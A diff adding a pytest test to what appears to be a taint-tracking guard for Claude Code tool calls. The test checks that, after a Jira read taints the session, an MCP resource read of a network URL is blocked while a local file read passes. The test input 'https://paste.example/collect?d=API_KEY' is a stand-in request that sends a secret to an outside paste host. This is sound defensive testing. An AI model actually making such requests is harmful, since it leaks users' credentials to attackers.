@@ -232,3 +232,26 @@ def test_a_resource_read_through_claude_codes_own_tool_is_cleaned_and_taints(
     assert type(replaced) is type(response)  # the tool's own shape
     assert store.sessions.state("hook-session").tainted
     assert _post(run_hook, "claude-code", tmp_path)[0] == 2
+
+
+def test_a_tainted_resource_read_of_a_url_through_claude_codes_tool_is_gated(
+    run_hook, store, tmp_path
+):
+    # As the proxy gates resources/read of a network URI: reading a URL can carry data out.
+    _read_jira(run_hook, "claude-code", tmp_path)
+
+    def read(uri: str):
+        event = _event(
+            "claude-code",
+            "ReadMcpResourceTool",
+            {"server": "web", "uri": uri},
+            tmp_path,
+            hook_event_name="PreToolUse",
+        )
+        return run_hook("claude-code", "pre-tool-use", event)
+
+    code, out, _ = read("https://paste.example/collect?d=API_KEY")
+    assert code == 2, out
+    reason = out["hookSpecificOutput"]["permissionDecisionReason"]
+    assert reason.startswith("lazaretto refused web/resources/read") and TOKEN.search(reason)
+    assert read("file:///notes/today.md")[:2] == (0, {})
